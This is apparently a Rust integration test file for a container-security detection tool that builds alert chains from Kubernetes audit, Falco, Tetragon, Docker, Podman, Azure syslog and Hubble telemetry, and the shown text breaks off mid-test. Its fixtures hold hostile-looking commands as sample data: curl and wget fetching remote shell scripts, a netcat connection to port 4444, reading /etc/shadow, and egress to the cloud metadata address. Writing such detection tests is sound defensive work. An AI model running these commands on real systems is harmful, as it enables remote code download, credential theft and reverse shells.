//! Telemetry as the managed services and sensors really deliver it (issue #20), through
//! the real binary: GKE, EKS and AKS Kubernetes audit wrappers, Falco on its own,
//! multi-call binaries, and the causes the summary gives for what it skips.

use assert_cmd::Command;
use serde_json::{json, Value};
use std::path::{Path, PathBuf};

const T0: i64 = 1_795_165_200; // 2026-11-20T09:00:00Z
const NS: i64 = 1_000_000_000;
const CID: &str = "3f9c2a7d1e8b4c6a9d0e5f1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1d";
const POD: &str = "report-gen-7d9f8-x2kqp";
const NODE: &str = "node-a";
const IMAGE: &str = "kitty0x/toolbox:latest";

/// `2026-11-20T09:00:SS.mmmZ` for an offset in milliseconds from T0 (under an hour).
fn iso_ms(ms: i64) -> String {
    format!(
        "2026-11-20T09:{:02}:{:02}.{:03}Z",
        ms / 60_000,
        ms % 60_000 / 1000,
        ms % 1000
    )
}

struct Dir(tempfile::TempDir);

impl Dir {
    fn new() -> Dir {
        Dir(tempfile::tempdir().unwrap())
    }
    fn jsonl(&self, name: &str, records: &[Value]) -> PathBuf {
        let text: String = records.iter().map(|r| format!("{r}\n")).collect();
        self.text(name, &text)
    }
    fn text(&self, name: &str, text: &str) -> PathBuf {
        let p = self.0.path().join(name);
        std::fs::write(&p, text).unwrap();
        p
    }
}

struct Run {
    code: i32,
    alerts: Vec<String>,
    reasons: Vec<Vec<String>>,
    stderr: String,
}

/// Runs `pullwatch scan --format json` and returns each alert as one comparable line
/// (rule, severity, entity, image and every evidence record's stage and position).
fn scan(extra: &[&str], inputs: &[&Path]) -> Run {
    let mut cmd = Command::cargo_bin("pullwatch").unwrap();
    cmd.arg("scan").arg("--format").arg("json").args(extra);
    for p in inputs {
        cmd.arg(p);
    }
    let out = cmd.output().unwrap();
    let stdout = String::from_utf8(out.stdout).unwrap();
    let mut alerts = Vec::new();
    let mut reasons = Vec::new();
    for l in stdout.lines() {
        let a: Value = serde_json::from_str(l).unwrap();
        let e = &a["entity"];
        let stages: Vec<String> = a["evidence"]
            .as_array()
            .unwrap()
            .iter()
            .map(|ev| {
                let path = ev["source"]["path"].as_str().unwrap();
                let file = Path::new(path).file_name().unwrap().to_str().unwrap();
                format!(
                    "{}@{}:{}",
                    ev["stage"].as_str().unwrap(),
                    file,
                    ev["source"]["line"]
                )
            })
            .collect();
        let s = |v: &Value| v.as_str().unwrap_or("-").to_string();
        alerts.push(format!(
            "{} {} host={} id={} pod={}/{} c={} image={} [{}]",
            s(&a["rule"]),
            s(&a["severity"]),
            s(&e["host"]),
            s(&e["container_id"]).get(..12).unwrap_or("-"),
            s(&e["namespace"]),
            s(&e["pod"]),
            s(&e["container"]),
            s(&a["image"]["ref"]),
            stages.join(" ")
        ));
        reasons.push(
            a["reasons"]
                .as_array()
                .unwrap()
                .iter()
                .map(|r| r.as_str().unwrap().to_string())
                .collect(),
        );
    }
    Run {
        code: out.status.code().unwrap_or(-1),
        alerts,
        reasons,
        stderr: String::from_utf8(out.stderr).unwrap(),
    }
}

fn kubelet(secs: i64, uid: &str, reason: &str, msg: &str) -> Value {
    json!({"kind":"Event","apiVersion":"v1",
        "metadata":{"name": format!("{POD}.{uid}"),"namespace":"default","uid":uid},
        "involvedObject":{"kind":"Pod","namespace":"default","name":POD,"fieldPath":"spec.containers{worker}"},
        "reason":reason,"message":msg,"source":{"component":"kubelet","host":NODE},
        "firstTimestamp":iso_ms(secs * 1000),"lastTimestamp":iso_ms(secs * 1000),"count":1,"type":"Normal"})
}

/// The node's side of the pod's start: the kubelet pulls, creates and starts it.
fn kubelet_events() -> Vec<Value> {
    vec![
        kubelet(2, "u-1", "Pulling", &format!("Pulling image \"{IMAGE}\"")),
        kubelet(
            8,
            "u-2",
            "Pulled",
            &format!("Successfully pulled image \"{IMAGE}\" in 5.9s (5.9s including waiting). Image size: 1 bytes."),
        ),
        kubelet(10, "u-3", "Created", "Created container: worker"),
        kubelet(10, "u-4", "Started", "Started container: worker"),
    ]
}

/// The API server's side, as a native `audit.k8s.io/v1` log holds it: the pod's
/// creation by its ReplicaSet, its binding to the node, and a `kubectl exec` that
/// runs curl in it.
fn native_audit() -> Vec<Value> {
    let pod = json!({"kind":"Pod","apiVersion":"v1","metadata":{"generateName":"report-gen-7d9f8-","namespace":"default"},
        "spec":{"containers":[{"name":"worker","image":IMAGE}]}});
    let mut created = pod.clone();
    created["metadata"]["name"] = json!(POD);
    created["spec"]["containers"][0]["imagePullPolicy"] = json!("Always");
    let ev = |id: &str, ms: i64, uri: &str, obj: Value, user: &str, code: u16| {
        json!({"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"RequestResponse","auditID":id,
            "stage":"ResponseComplete","requestURI":uri,"verb":"create","user":{"username":user},
            "sourceIPs":["10.0.0.9"],"objectRef":obj,"responseStatus":{"metadata":{},"code":code},
            "requestReceivedTimestamp":iso_ms(ms),"stageTimestamp":iso_ms(ms)})
    };
    let mut create = ev(
        "9f0e1d2c-0001",
        100,
        "/api/v1/namespaces/default/pods",
        json!({"resource":"pods","namespace":"default","apiVersion":"v1"}),
        "system:serviceaccount:kube-system:replicaset-controller",
        201,
    );
    create["requestObject"] = pod;
    create["responseObject"] = created;
    let mut bind = ev(
        "9f0e1d2c-0002",
        140,
        &format!("/api/v1/namespaces/default/pods/{POD}/binding"),
        json!({"resource":"pods","namespace":"default","name":POD,"apiVersion":"v1","subresource":"binding"}),
        "system:kube-scheduler",
        201,
    );
    bind["requestObject"] = json!({"kind":"Binding","apiVersion":"v1","metadata":{"name":POD,"namespace":"default"},"target":{"kind":"Node","name":NODE}});
    let exec = ev(
        "9f0e1d2c-0003",
        41_518,
        &format!("/api/v1/namespaces/default/pods/{POD}/exec?command=curl&command=-fsSL&command=http%3A%2F%2F198.51.100.23%2Fs.sh&container=worker&stdin=true&tty=true"),
        json!({"resource":"pods","namespace":"default","name":POD,"apiVersion":"v1","subresource":"exec"}),
        "dev@acme.example",
        101,
    );
    vec![create, bind, exec]
}

/// The same three requests as GKE writes them to Cloud Logging.
fn gke_audit() -> Vec<Value> {
    let entry = |id: &str, ms: i64, method: &str, resource: &str, who: &str, request: Value| {
        json!({"insertId":id,"logName":"projects/acme-prod/logs/cloudaudit.googleapis.com%2Factivity",
            "operation":{"first":true,"id":id,"last":true,"producer":"k8s.io"},
            "protoPayload":{"@type":"type.googleapis.com/google.cloud.audit.AuditLog",
                "authenticationInfo":{"principalEmail":who},
                "methodName":method,"resourceName":resource,"serviceName":"k8s.io",
                "request":request,"status":{}},
            "resource":{"type":"k8s_cluster","labels":{"cluster_name":"prod-1","location":"europe-west1","project_id":"acme-prod"}},
            "timestamp":iso_ms(ms)})
    };
    let native = native_audit();
    let mut create = entry(
        "9f0e1d2c-0001",
        100,
        "io.k8s.core.v1.pods.create",
        "core/v1/namespaces/default/pods",
        "system:serviceaccount:kube-system:replicaset-controller",
        native[0]["requestObject"].clone(),
    );
    create["protoPayload"]["response"] = native[0]["responseObject"].clone();
    vec![
        create,
        entry(
            "9f0e1d2c-0002",
            140,
            "io.k8s.core.v1.pods.binding.create",
            &format!("core/v1/namespaces/default/pods/{POD}/binding"),
            "system:kube-scheduler",
            native[1]["requestObject"].clone(),
        ),
        entry(
            "9f0e1d2c-0003",
            41_518,
            "io.k8s.core.v1.pods.exec.create",
            &format!("core/v1/namespaces/default/pods/{POD}/exec"),
            "dev@acme.example",
            json!({"@type":"core.k8s.io/v1.PodExecOptions","command":["curl","-fsSL","http://198.51.100.23/s.sh"],"container":"worker","stdin":true,"tty":true}),
        ),
    ]
}

/// The native events in a CloudWatch Logs subscription batch, as EKS delivers them.
fn eks_audit() -> Vec<Value> {
    let events: Vec<Value> = native_audit()
        .iter()
        .enumerate()
        .map(|(i, e)| {
            json!({"id": format!("3800000000000000000000000000000000000000000000000000000{i}"),
            "timestamp": T0 * 1000 + i as i64, "message": e.to_string()})
        })
        .collect();
    vec![
        json!({"messageType":"DATA_MESSAGE","owner":"111122223333","logGroup":"/aws/eks/prod-1/cluster",
            "logStream":"kube-apiserver-audit-5e3f1c0a9b8d","subscriptionFilters":["pullwatch"],"logEvents":events}),
    ]
}

/// The native events in Azure diagnostic logs, as AKS delivers them.
fn aks_audit() -> Vec<Value> {
    native_audit()
        .iter()
        .map(|e| {
            json!({"category":"kube-audit","operationName":"Microsoft.ContainerService/managedClusters/diagnosticLogs/Read",
                "properties":{"log":e.to_string(),"pod":"kube-apiserver-6d8f9c7b5-x2k4q","stream":"stdout"},
                "resourceId":"/SUBSCRIPTIONS/00000000-0000-0000-0000-000000000000/RESOURCEGROUPS/RG/PROVIDERS/MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/PROD-1",
                "time":e["stageTimestamp"]})
        })
        .collect()
}

#[test]
fn managed_kubernetes_audit_logs_make_the_chain_a_native_audit_log_makes() {
    let d = Dir::new();
    let kubelet = d.jsonl("kubelet.jsonl", &kubelet_events());
    // The pod's creation in a scoped namespace with a mutable tag is a finding of its
    // own; the chain runs from the admission through the kubelet's stages to the exec.
    let expected = |file: &str| {
        vec![
            format!("an0691.namespace_scope medium host=- id=- pod=default/{POD} c=- image=docker.io/{IMAGE} [create@{file}:1]"),
            format!(
                "an0691.chain critical host={NODE} id=- pod=default/{POD} c=worker image=docker.io/{IMAGE} [create@{file}:1 pull@kubelet.jsonl:1 create@kubelet.jsonl:3 start@kubelet.jsonl:4 activity@{file}:3]"
            ),
        ]
    };
    let native = d.jsonl("native.jsonl", &native_audit());
    let run = scan(&["--strict"], &[&kubelet, &native]);
    assert_eq!(run.alerts, expected("native.jsonl"), "{}", run.stderr);
    let gke = d.jsonl("gke.jsonl", &gke_audit());
    let run = scan(&["--strict"], &[&kubelet, &gke]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(run.alerts, expected("gke.jsonl"), "{}", run.stderr);
    assert!(run.stderr.contains("read k8s-audit"), "{}", run.stderr);
    assert!(!run.stderr.contains("read gcp-audit"), "{}", run.stderr);
    let aks = d.jsonl("aks.jsonl", &aks_audit());
    let run = scan(&["--strict"], &[&kubelet, &aks]);
    assert_eq!(run.alerts, expected("aks.jsonl"), "{}", run.stderr);
    // One line holds the whole CloudWatch batch: every stage is on line 1.
    let eks = d.jsonl("eks.jsonl", &eks_audit());
    let run = scan(&["--strict"], &[&kubelet, &eks]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(
        run.alerts,
        vec![
            format!("an0691.namespace_scope medium host=- id=- pod=default/{POD} c=- image=docker.io/{IMAGE} [create@eks.jsonl:1]"),
            format!(
                "an0691.chain critical host={NODE} id=- pod=default/{POD} c=worker image=docker.io/{IMAGE} [create@eks.jsonl:1 pull@kubelet.jsonl:1 create@kubelet.jsonl:3 start@kubelet.jsonl:4 activity@eks.jsonl:1]"
            ),
        ]
    );
}

#[test]
fn a_gke_entry_that_cannot_be_read_is_a_located_skip_that_strict_sees() {
    let d = Dir::new();
    let mut entries = gke_audit();
    // A pod creation whose request is no pod.
    entries[0]["protoPayload"]["request"] = json!(["not", "a", "pod"]);
    let f = d.jsonl("gke.jsonl", &entries);
    let run = scan(&["--strict"], &[&f]);
    assert_eq!(run.code, 3, "{}", run.stderr);
    assert!(
        run.stderr.contains("k8s-audit: invalid record"),
        "{}",
        run.stderr
    );
    assert!(run.stderr.contains("gke.jsonl:1"), "{}", run.stderr);
    // Entries of no interest (a read, another service) are records, not skips.
    let quiet = d.jsonl(
        "quiet.jsonl",
        &[
            json!({"insertId":"q-1","operation":{"id":"q-1"},"protoPayload":{"serviceName":"k8s.io",
                "methodName":"io.k8s.core.v1.configmaps.get","resourceName":"core/v1/namespaces/default/configmaps/app"},
                "timestamp":iso_ms(0)}),
            json!({"insertId":"q-2","protoPayload":{"serviceName":"cloudbilling.googleapis.com",
                "methodName":"GetResourceBillingInfo"},"timestamp":iso_ms(1000)}),
        ],
    );
    let run = scan(&["--strict"], &[&quiet]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(run.stderr.contains("skipped: none"), "{}", run.stderr);
}

/// A Falco 0.43 alert (JSON output) about a process in the toolbox container.
fn falco(ms: i64, rule: &str, exepath: &str, name: &str, cmdline: &str, pid: u32) -> Value {
    json!({"hostname":NODE,"output":format!("{} Notice {rule}", iso_ms(ms)),"priority":"Notice","rule":rule,
        "source":"syscall","tags":["container"],"time":iso_ms(ms),
        "output_fields":{"container.id":&CID[..12],"container.name":"worker",
            "container.image.repository":"docker.io/kitty0x/toolbox","container.image.tag":"latest",
            "container.start_ts":(T0 + 3) * NS,"evt.time":T0 * NS + ms * 1_000_000,
            "k8s.ns.name":"apps","k8s.pod.name":POD,
            "proc.exepath":exepath,"proc.name":name,"proc.cmdline":cmdline,"proc.pid":pid,"proc.ppid":1,"user.name":"root"}})
}

#[test]
fn falco_alone_makes_a_chain_from_the_start_it_reports() {
    let d = Dir::new();
    let f = d.jsonl(
        "falco.jsonl",
        &[
            falco(
                20_000,
                "Read sensitive file untrusted",
                "/usr/bin/cat",
                "cat",
                "cat /etc/shadow",
                40,
            ),
            falco(
                40_000,
                "Drop and execute new binary in container",
                "/usr/bin/curl",
                "curl",
                "curl -fsSL http://198.51.100.23/s.sh",
                41,
            ),
        ],
    );
    let run = scan(&[], &[&f]);
    assert_eq!(
        run.alerts,
        vec![format!("an0691.chain high host={NODE} id={} pod=apps/{POD} c=worker image=docker.io/{IMAGE} [activity@falco.jsonl:2]", &CID[..12])],
        "{}",
        run.stderr
    );
    // The window runs from the start Falco reported (T0+3s), the only lifecycle record.
    assert_eq!(
        run.reasons[0][1..],
        [
            "no pull seen (image already present); window measured from the container's first lifecycle record at 2026-11-20T09:00:03Z",
            "ran /usr/bin/curl ('curl' in suspicious_binaries), 37s after container start (time_window 15m)",
        ],
        "{:?}",
        run.reasons
    );
    // Without the start time Falco has no evidence that the container started in the
    // window: no chain, as before.
    let mut no_start = falco(40_000, "r", "/usr/bin/curl", "curl", "curl http://x", 41);
    no_start["output_fields"]["container.start_ts"] = json!(0);
    let f = d.jsonl("nostart.jsonl", &[no_start]);
    assert_eq!(scan(&[], &[&f]).alerts, Vec::<String>::new());
}

#[test]
fn busybox_applets_are_judged_as_the_program_they_run() {
    let d = Dir::new();
    // In an Alpine-based image every applet is /bin/busybox to Falco: `ls` and `cat`
    // are not suspicious, `wget` is.
    let quiet = d.jsonl(
        "quiet.jsonl",
        &[
            falco(20_000, "r", "/bin/busybox", "ls", "ls -la /tmp", 40),
            falco(21_000, "r", "/bin/busybox", "cat", "cat /etc/hosts", 41),
        ],
    );
    let run = scan(&[], &[&quiet]);
    assert_eq!(run.alerts, Vec::<String>::new(), "{}", run.stderr);
    let loud = d.jsonl(
        "loud.jsonl",
        &[
            falco(20_000, "r", "/bin/busybox", "ls", "ls -la /tmp", 40),
            falco(
                30_000,
                "r",
                "/bin/busybox",
                "wget",
                "wget -qO- http://198.51.100.23/s.sh",
                42,
            ),
        ],
    );
    let run = scan(&[], &[&loud]);
    assert_eq!(
        run.alerts,
        vec![format!("an0691.chain high host={NODE} id={} pod=apps/{POD} c=worker image=docker.io/{IMAGE} [activity@loud.jsonl:2]", &CID[..12])],
        "{}",
        run.stderr
    );
    assert!(
        run.reasons[0]
            .iter()
            .any(|r| r.starts_with("ran /bin/busybox as 'wget' ('wget' in suspicious_binaries)")),
        "{:?}",
        run.reasons
    );
    // Tetragon reports the binary and the arguments after argv[0]: `busybox ls` is
    // ls. Docker's exec names the command as typed.
    let docker = |secs: i64, action: &str| {
        json!({"Type":"container","Action":action,"Actor":{"ID":CID,"Attributes":{"image":"ghcr.io/evil/alpine:3","name":"c"}},
            "scope":"local","time":T0 + secs,"timeNano":(T0 + secs) * NS})
    };
    let f = d.jsonl(
        "docker.jsonl",
        &[
            json!({"Type":"image","Action":"pull","Actor":{"ID":"ghcr.io/evil/alpine:3","Attributes":{"name":"ghcr.io/evil/alpine"}},
                "scope":"local","time":T0,"timeNano":T0 * NS}),
            docker(2, "create"),
            docker(3, "start"),
            docker(10, "exec_start: busybox ls /"),
            docker(20, "exec_start: busybox nc 198.51.100.23 4444"),
        ],
    );
    let run = scan(&[], &[&f]);
    assert_eq!(
        run.alerts,
        vec!["an0691.chain high host=- id=3f9c2a7d1e8b pod=-/- c=c image=ghcr.io/evil/alpine:3 [pull@docker.jsonl:1 create@docker.jsonl:2 start@docker.jsonl:3 activity@docker.jsonl:5]"],
        "{}",
        run.stderr
    );
    assert!(
        run.reasons[0]
            .iter()
            .any(|r| r.starts_with("ran busybox as 'nc' ('nc' in suspicious_binaries)")),
        "{:?}",
        run.reasons
    );
    // Tetragon: the binary, and the arguments after argv[0]. `busybox ls` is ls,
    // `busybox wget` is wget.
    let pod = json!({"namespace":"apps","name":POD,"container":{"id":format!("containerd://{CID}"),"name":"worker",
        "image":{"id":"docker.io/kitty0x/toolbox@sha256:5f3a2b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a","name":format!("docker.io/{IMAGE}")},
        "start_time":iso_ms(3_000),"pid":1}});
    let exec = |ms: i64, pid: u32, args: &str| {
        json!({"process_exec":{"process":{"exec_id":format!("e{pid}"),"pid":pid,"uid":0,"cwd":"/","binary":"/bin/busybox",
            "arguments":args,"flags":"execve","start_time":iso_ms(ms),"pod":pod},"parent":{"pid":1}},
            "node_name":NODE,"time":iso_ms(ms)})
    };
    let quiet = d.jsonl(
        "tetragon-quiet.jsonl",
        &[exec(20_000, 40, "ls /"), exec(21_000, 41, "cat /etc/hosts")],
    );
    let run = scan(&[], &[&quiet]);
    assert_eq!(run.alerts, Vec::<String>::new(), "{}", run.stderr);
    let loud = d.jsonl(
        "tetragon.jsonl",
        &[
            exec(20_000, 40, "ls /"),
            exec(30_000, 42, "wget -qO- http://198.51.100.23/s.sh"),
        ],
    );
    let run = scan(&[], &[&loud]);
    assert_eq!(run.alerts.len(), 1, "{}", run.stderr);
    assert!(
        run.alerts[0].ends_with("[activity@tetragon.jsonl:2]"),
        "{:?}",
        run.alerts
    );
    assert!(
        run.reasons[0]
            .iter()
            .any(|r| r.starts_with("ran /bin/busybox as 'wget' ('wget' in suspicious_binaries)")),
        "{:?}",
        run.reasons
    );
}

#[test]
fn the_summary_names_what_each_skipped_record_was() {
    let d = Dir::new();
    let falco_log = format!(
        "Wed Nov 20 09:00:00 2026: Falco version: 0.43.0 (x86_64)\n\
         Wed Nov 20 09:00:00 2026: Loading rules from:\n\
         2026-11-20T09:00:00+0000: Opening 'syscall' source with modern BPF probe.\n\
         2026-11-20T09:00:01+0000: Enabled event sources: syscall, container image events\n\
         09:00:41.518000000: Notice A shell was spawned in a container with an attached terminal (container_id=3f9c2a7d1e8b image=docker.io/kitty0x/toolbox)\n\
         {}\n",
        falco(41_000, "r", "/usr/bin/cat", "cat", "cat /etc/hosts", 40)
    );
    let f = d.text("falco.log", &falco_log);
    let run = scan(&["--prefilter", "off"], &[&f]);
    assert!(
        run.stderr
            .contains("4  falco: startup/log line, not an alert"),
        "{}",
        run.stderr
    );
    assert!(
        run.stderr
            .contains("1  falco: text alert, not read (set json_output: true)"),
        "{}",
        run.stderr
    );
    assert!(!run.stderr.contains("docker-events"), "{}", run.stderr);
    assert!(run.stderr.contains("falco.log:1"), "{}", run.stderr);
    // What the prefilter leaves undecoded is named by what it was.
    let docker = d.jsonl(
        "docker.jsonl",
        &[
            json!({"Type":"network","Action":"connect","Actor":{"ID":"7a1c","Attributes":{"container":CID,"name":"bridge","type":"bridge"}},
                "scope":"local","time":T0,"timeNano":T0 * NS}),
            json!({"Type":"image","Action":"untag","Actor":{"ID":"sha256:5f3a","Attributes":{"name":"sha256:5f3a"}},
                "scope":"local","time":T0 + 1,"timeNano":(T0 + 1) * NS}),
            json!({"Type":"image","Action":"delete","Actor":{"ID":"sha256:5f3a","Attributes":{"name":"sha256:5f3a"}},
                "scope":"local","time":T0 + 2,"timeNano":(T0 + 2) * NS}),
            json!({"Type":"container","Action":"exec_start: sh -c nginx -t","Actor":{"ID":CID,"Attributes":{"image":"nginx:1.27","name":"web"}},
                "scope":"local","time":T0 + 3,"timeNano":(T0 + 3) * NS}),
        ],
    );
    let run = scan(&["--prefilter", "on", "--threads", "1"], &[&docker]);
    assert!(
        run.stderr
            .contains("prefiltered: 4 records no loaded analytic can use"),
        "{}",
        run.stderr
    );
    assert!(
        run.stderr
            .contains("1  docker-events: network event (not used)"),
        "{}",
        run.stderr
    );
    assert!(
        run.stderr
            .contains("2  docker-events: image event other than a pull (not used)"),
        "{}",
        run.stderr
    );
    assert!(
        run.stderr
            .contains("1  docker-events: exec in a container of an allowlisted image"),
        "{}",
        run.stderr
    );
    assert!(
        !run.stderr.contains("activity in allowlisted images"),
        "{}",
        run.stderr
    );
}

#[test]
fn podman_events_are_the_pull_create_and_start_of_a_podman_host() {
    let d = Dir::new();
    let json = d.jsonl(
        "podman.jsonl",
        &[
            json!({"ID":"5f3a2b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a","Name":format!("docker.io/{IMAGE}"),
                "Status":"pull","Time":iso_ms(2_000),"Type":"image"}),
            json!({"ID":CID,"Image":format!("docker.io/{IMAGE}"),"Name":"worker","Status":"create","Time":iso_ms(3_000),"Type":"container",
                "Attributes":{"image":format!("docker.io/{IMAGE}"),"name":"worker"}}),
            json!({"ID":CID,"Image":format!("docker.io/{IMAGE}"),"Name":"worker","Status":"init","Time":iso_ms(3_100),"Type":"container"}),
            json!({"ID":CID,"Image":format!("docker.io/{IMAGE}"),"Name":"worker","Status":"start","time":T0 + 4,"timeNano":(T0 + 4) * NS,"Type":"container"}),
            json!({"ID":CID,"Image":format!("docker.io/{IMAGE}"),"Name":"worker","Status":"exec","Time":iso_ms(30_000),"Type":"container"}),
        ],
    );
    let mut curl = falco(
        40_000,
        "r",
        "/usr/bin/curl",
        "curl",
        "curl -fsSL http://198.51.100.23/s.sh",
        41,
    );
    curl["output_fields"]["container.start_ts"] = json!(0);
    curl["output_fields"]["k8s.ns.name"] = json!(null);
    curl["output_fields"]["k8s.pod.name"] = json!(null);
    let falco = d.jsonl("falco.jsonl", &[curl]);
    let run = scan(&["--strict"], &[&json, &falco]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(
        run.alerts,
        vec![format!("an0691.chain high host={NODE} id=3f9c2a7d1e8b pod=-/- c=worker image=docker.io/{IMAGE} [pull@podman.jsonl:1 create@podman.jsonl:2 start@podman.jsonl:4 activity@falco.jsonl:1]")],
        "{}",
        run.stderr
    );
    assert!(run.stderr.contains("read podman-events"), "{}", run.stderr);
    // The default text form gives the same chain.
    let text = d.text(
        "podman.log",
        &format!(
            "2026-11-20 09:00:02 +0000 UTC image pull 5f3a2b0c9d8e docker.io/{IMAGE}\n\
             2026-11-20 10:00:03 +0100 CET container create {CID} (image=docker.io/{IMAGE}, name=worker, maintainer=kitty)\n\
             2026-11-20 09:00:04.000000001 +0000 UTC container start {CID} (image=docker.io/{IMAGE}, name=worker)\n"
        ),
    );
    let run = scan(&["--strict"], &[&text, &falco]);
    assert_eq!(
        run.alerts,
        vec![format!("an0691.chain high host={NODE} id=3f9c2a7d1e8b pod=-/- c=worker image=docker.io/{IMAGE} [pull@podman.log:1 create@podman.log:2 start@podman.log:3 activity@falco.jsonl:1]")],
        "{}",
        run.stderr
    );
}

/// An Azure Activity Log VM write: a Linux VM `vm-web1` (computer name `web1`) from a
/// marketplace image of `publisher`.
fn azure_vm_write(publisher: &str) -> Value {
    let body = json!({"location":"westeurope","properties":{"hardwareProfile":{"vmSize":"Standard_B2s"},
        "storageProfile":{"imageReference":{"publisher":publisher,"offer":"tools","sku":"22_04-lts","version":"latest"},"osDisk":{"createOption":"FromImage"}},
        "osProfile":{"computerName":"web1","adminUsername":"azureuser"}}});
    json!({"time":"2026-11-20T09:00:00.1234567Z",
        "resourceId":"/SUBSCRIPTIONS/8A4DE8B5-095C-47D0-A96F-A75130C61D53/RESOURCEGROUPS/RG1/PROVIDERS/MICROSOFT.COMPUTE/VIRTUALMACHINES/VM-WEB1",
        "operationName":"MICROSOFT.COMPUTE/VIRTUALMACHINES/WRITE","category":"Administrative","resultType":"Start","resultSignature":"Started.",
        "callerIpAddress":"198.51.100.30","correlationId":"c0ffee00-0000-0000-0000-000000000001",
        "level":"Information","location":"westeurope","properties":{"statusCode":"Created","requestbody":body.to_string()}})
}

/// A row of Log Analytics' Syslog table from the VM.
fn syslog_row(ms: i64, process: &str, message: &str) -> Value {
    json!({"TenantId":"11111111-2222-3333-4444-555555555555","SourceSystem":"Linux","TimeGenerated":iso_ms(ms + 400),
        "Computer":"web1","EventTime":iso_ms(ms),"Facility":"user","HostName":"web1","SeverityLevel":"info",
        "SyslogMessage":message,"ProcessID":1187,"HostIP":"10.0.0.4","ProcessName":process,
        "_ResourceId":"/subscriptions/8a4de8b5-095c-47d0-a96f-a75130c61d53/resourcegroups/rg1/providers/microsoft.compute/virtualmachines/vm-web1",
        "Type":"Syslog"})
}

fn sysmon_linux_xml(utc: &str, image: &str, cmdline: &str) -> String {
    format!(
        "<Event><System><Provider Name=\"Linux-Sysmon\" Guid=\"{{ff032593-a8d3-4f13-b0d6-01fc615a0f97}}\"/><EventID>1</EventID><Version>5</Version>\
         <TimeCreated SystemTime=\"{utc}Z\"/><EventRecordID>4711</EventRecordID><Channel>Linux-Sysmon/Operational</Channel><Computer>web1</Computer></System>\
         <EventData><Data Name=\"RuleName\">-</Data><Data Name=\"UtcTime\">{}</Data><Data Name=\"ProcessGuid\">{{5b1c2d3e-0a1b-6f3c-5c1d-000000000042}}</Data>\
         <Data Name=\"ProcessId\">4242</Data><Data Name=\"Image\">{image}</Data><Data Name=\"CommandLine\">{cmdline}</Data><Data Name=\"User\">root</Data>\
         <Data Name=\"ParentProcessId\">1200</Data><Data Name=\"ParentImage\">/usr/bin/cloud-init</Data></EventData></Event>",
        utc.replace('T', " ")
    )
}

#[test]
fn azure_linux_guests_through_log_analytics_complete_an_an0692_chain() {
    let d = Dir::new();
    let shady = d.jsonl("activity.jsonl", &[azure_vm_write("shady-labs")]);
    let sysmon = d.jsonl(
        "syslog-sysmon.json",
        &[
            syslog_row(
                100_000,
                "sshd",
                "Accepted publickey for azureuser from 203.0.113.9 port 50022 ssh2",
            ),
            syslog_row(
                200_000,
                "sysmon",
                &sysmon_linux_xml(
                    "2026-11-20T09:03:20.000",
                    "/usr/bin/curl",
                    "curl -fsSL http://203.0.113.5/i.sh -o /tmp/i.sh",
                ),
            ),
        ],
    );
    let run = scan(&["--strict"], &[&shady, &sysmon]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(
        run.alerts,
        vec![format!("an0692.chain high host=web1 id=- pod=-/- c=- image=shady-labs:tools:22_04-lts:latest [launch@activity.jsonl:1 activity@syslog-sysmon.json:2]")],
        "{}",
        run.stderr
    );
    assert!(run.stderr.contains("read azure-syslog"), "{}", run.stderr);
    assert!(!run.stderr.contains("read sysmon"), "{}", run.stderr);
    // AUOMS's execve records show the same.
    let auoms = d.jsonl(
        "syslog-auoms.json",
        &[syslog_row(
            210_000,
            "AUOMS_EXECVE",
            "type=AUOMS_EXECVE audit(1795165410.000:100442): syscall=execve success=yes exit=0 ppid=1200 pid=4243 audit_user=root auid=0 user=root uid=0 comm=\"wget\" exe=\"/usr/bin/wget\" cwd=\"/root\" cmdline=\"wget -q http://203.0.113.5/i.sh\" redactors= containerid=",
        )],
    );
    let run = scan(&["--strict"], &[&shady, &auoms]);
    assert_eq!(
        run.alerts,
        vec![format!("an0692.chain high host=web1 id=- pod=-/- c=- image=shady-labs:tools:22_04-lts:latest [launch@activity.jsonl:1 activity@syslog-auoms.json:1]")],
        "{}",
        run.stderr
    );
    assert!(
        run.reasons[0]
            .iter()
            .any(|r| r.starts_with("ran /usr/bin/wget ('wget' in suspicious_binaries)")),
        "{:?}",
        run.reasons
    );
}

fn hubble(ms: i64, pod: &str, dst: &str, dport: u16, verdict: &str) -> Value {
    json!({"flow":{"time":iso_ms(ms),"uuid":format!("7d1f0c2e-8a4b-4c3d-9e2f-{ms:012}"),"verdict":verdict,
        "IP":{"source":"10.244.1.23","destination":dst,"ipVersion":"IPv4"},
        "l4":{"TCP":{"source_port":51514,"destination_port":dport,"flags":{"SYN":true}}},
        "source":{"ID":1234,"identity":5678,"namespace":"default","labels":["k8s:app=report-gen"],"pod_name":pod},
        "destination":{"identity":2,"labels":["reserved:world"]},"Type":"L3_L4","node_name":NODE,
        "event_type":{"type":4,"sub_type":3},"traffic_direction":"EGRESS","trace_observation_point":"TO_STACK","is_reply":false},
        "node_name":NODE,"time":iso_ms(ms)})
}

#[test]
fn hubble_egress_joins_the_pod_it_names_without_an_address() {
    let d = Dir::new();
    let events = d.jsonl("kubelet.jsonl", &kubelet_events());
    let flows = d.jsonl(
        "hubble.jsonl",
        &[
            // Dropped by policy: it never left.
            hubble(30_000, POD, "169.254.169.254", 80, "DROPPED"),
            hubble(41_000, POD, "169.254.169.254", 80, "FORWARDED"),
            hubble(41_010, POD, "169.254.169.254", 80, "FORWARDED"),
        ],
    );
    let run = scan(&["--strict"], &[&events, &flows]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(
        run.alerts,
        vec![format!("an0691.chain critical host={NODE} id=- pod=default/{POD} c=worker image=docker.io/{IMAGE} [pull@kubelet.jsonl:1 create@kubelet.jsonl:3 start@kubelet.jsonl:4 activity@hubble.jsonl:2]")],
        "{}",
        run.stderr
    );
    assert!(run.stderr.contains("read hubble-flow"), "{}", run.stderr);
    // In a pod running two containers the flow cannot say which one connected.
    let mut two = kubelet_events();
